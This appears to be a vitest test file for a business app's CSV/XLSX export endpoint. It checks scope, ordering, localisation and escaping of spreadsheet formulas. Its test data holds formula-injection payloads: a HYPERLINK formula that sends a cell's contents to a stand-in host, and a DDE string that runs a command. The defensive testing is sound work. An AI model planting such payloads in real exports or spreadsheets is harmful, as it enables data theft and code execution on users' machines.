import { beforeAll, describe, expect, it } from "vitest";
import { unzipSync, strFromU8 } from "fflate";
import { readSheet } from "read-excel-file/node";
import type { Paged } from "../../../src/core/api-types";
import { withTestApp } from "../support/test-lifecycle";
import { formToken, type TestApp } from "../support/test-app";
import { create, demoBranches, makeUser } from "../master-data/helpers";
import { saleWorld, type SaleWorld } from "../sale/helpers";
import { cashboxes, type Cashboxes } from "../accounting/ledger-helpers";

/**
 * `GET <list>/export/` (SPEC section 7): every row of the list's filter and ordering as CSV or XLSX,
 * within the list's permission and branch scope, titled in the caller's language, and no cell a
 * spreadsheet would run as a formula.
 */

let t: TestApp;
let admin: string;
let cashier: string;
let branches: { erbil: number; sulaymaniyah: number };
let w: SaleWorld;
let boxes: Cashboxes;

const HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"open")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = "@SUM(1+1)";

withTestApp(async (app) => {
  t = app;
  admin = await t.login("admin");
  cashier = await t.login("cashier");
  branches = await demoBranches(t);
  w = await saleWorld(t);
  boxes = cashboxes(t, () => admin);
});

beforeAll(async () => {
  for (const name of [HYPERLINK, CMD, SUM]) {
    const made = await create(t, admin, "customer/", { name, branch: branches.erbil, phone: "-12" });
    expect(made.status).toBe(201);
  }
  const foreign = await create(t, admin, "customer/", { name: "=Suli formula", branch: branches.sulaymaniyah });
  expect(foreign.status).toBe(201);
});

interface Answer {
  status: number;
  headers: Record<string, string | string[] | number | undefined>;
  text: string;
  bytes: Buffer;
}

async function get(token: string, url: string, headers: Record<string, string> = {}): Promise<Answer> {
  const response = await t.app.inject({ method: "GET", url, headers: { authorization: `Bearer ${token}`, ...headers } });
  return { status: response.statusCode, headers: response.headers, text: response.body, bytes: response.rawPayload };
}

/** RFC 4180 lines of a CSV answer (after its BOM). */
function parseCsv(text: string): string[][] {
  expect(text.startsWith("\uFEFF")).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const body = text.slice(1);
  for (let i = 0; i < body.length; i += 1) {
    const c = body[i];
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && body[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i += 1;
    } else cell += c;
  }
  return rows;
}

/** The first sheet's XML of an XLSX answer. */
function sheetXml(bytes: Buffer): string {
  const files = unzipSync(new Uint8Array(bytes));
  expect(Object.keys(files)).toEqual(expect.arrayContaining(["[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"]));
  return strFromU8(files["xl/worksheets/sheet1.xml"]);
}

describe("GET <list>/export/", () => {
  it("writes a formula-named customer as text in CSV, with the list's rows, filters and ordering", async () => {
    const query = "name__istartswith=%3D&ordering=-id";
    const res = await get(admin, `/api/customer/export/?format=csv&${query}&columns=id,name,phone,branch`);
    expect(res.status).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toBe('attachment; filename="customer.csv"');
    const [head, ...rows] = parseCsv(res.text);
    expect(head).toEqual(["ID", "Name", "Phone", "Branch"]);
    const list = await t.call<Paged<{ id: number; name: string; phone: string }>>(admin, "GET", `/api/customer/?${query}&page_size=200`);
    expect(list.body.results.length).toBeGreaterThanOrEqual(2);
    expect(rows.map((r) => Number(r[0]))).toEqual(list.body.results.map((r) => r.id));
    expect(rows.map((r) => r[1])).toEqual(list.body.results.map((r) => `'${r.name}`));
    expect(rows.map((r) => r[1])).toContain(`'${HYPERLINK}`);
    // A phone is text: "-12" is quoted like any text that starts with a minus.
    expect(rows.find((r) => r[1] === `'${HYPERLINK}`)?.slice(2)).toEqual(["'-12", "Erbil Main"]);
    // No line of the file starts a cell with a formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it("answers the same rows as the list for every filter and ordering, every page of them", async () => {
    const query = "ordering=name&branch=" + branches.erbil;
    const list = await t.call<Paged<{ id: number }>>(admin, "GET", `/api/customer/?${query}&page_size=200`);
    const res = await get(admin, `/api/customer/export/?${query}&columns=id&page=999999999&page_size=1`);
    expect(res.status).toBe(200);
    expect(
      parseCsv(res.text)
        .slice(1)
        .map((r) => Number(r[0])),
    ).toEqual(list.body.results.map((r) => r.id));
  });

  it("writes XLSX with the formula as text, a negative amount as a number, titles in the caller's language", async () => {
    const box = await boxes.make(w.iqd, w.erbil, "5000");
    const counted = await t.call(admin, "POST", "/api/accounting/cashbox-count/", {
      cashbox: box,
      counted_balance: "4990",
      shift: HYPERLINK,
      form_token: formToken("cnt"),
    });
    expect(counted.status).toBe(201);
    const url = `/api/accounting/cashbox-count/export/?format=xlsx&cashbox=${box}&columns=shift,difference`;
    const res = await get(admin, url, { "accept-language": "ar-IQ,ar;q=0.9,en;q=0.8" });
    expect(res.status).toBe(200);
    expect(res.headers["content-type"]).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(res.headers["content-disposition"]).toBe('attachment; filename="cashbox-count.xlsx"');
    const xml = sheetXml(res.bytes);
    expect(xml).toContain('rightToLeft="1"');
    expect(xml).not.toContain("<f>");
    const sheet = await readSheet(res.bytes);
    expect(sheet).toEqual([
      ["الوردية", "الفرق"],
      [`'${HYPERLINK}`, -10],
    ]);

    const csv = await get(admin, url.replace("xlsx", "csv") + "&lang=en");
    expect(parseCsv(csv.text)).toEqual([
      ["Shift", "Difference"],
      [`'${HYPERLINK}`, "-10.00"],
    ]);
  });

  it("writes the formula-named customers of XLSX as text too", async () => {
    const res = await get(admin, "/api/customer/export/?format=xlsx&lang=en&name__istartswith=%2B&columns=name");
    expect(res.status).toBe(200);
    const sheet = await readSheet(res.bytes);
    expect(sheet).toEqual([["Name"], [`'${CMD}`]]);
  });

  it("keeps the list's permission and branch scope", async () => {
    const nobody = await makeUser(t, [], [branches.erbil, branches.sulaymaniyah]);
    expect((await get(nobody, "/api/customer/export/?format=csv")).status).toBe(403);
    expect((await get(nobody, "/api/accounting/cashbox-count/export/")).status).toBe(403);
    // The cashier's branch is Erbil: Sulaymaniyah's customer is in the admin's file, not in the cashier's.
    const everyName = (answer: Answer) => parseCsv(answer.text).slice(1).flat();
    expect(everyName(await get(admin, "/api/customer/export/?columns=name"))).toContain("'=Suli formula");
    const own = everyName(await get(cashier, "/api/customer/export/?columns=name"));
    expect(own).toContain(`'${HYPERLINK}`);
    expect(own).not.toContain("'=Suli formula");
    const asked = await get(cashier, `/api/customer/export/?columns=name&branch=${branches.sulaymaniyah}`);
    expect(asked.status).toBe(200);
    expect(everyName(asked)).toEqual([]);
  });

  it("refuses what it cannot write with a 400", async () => {
    for (const query of ["format=pdf", "lang=fr", "columns=a;b", "name__bogus=1", "ordering=nope", "id=abc"]) {
      const res = await get(admin, `/api/customer/export/?${query}`);
      expect(res.status, query).toBe(400);
    }
  });
});
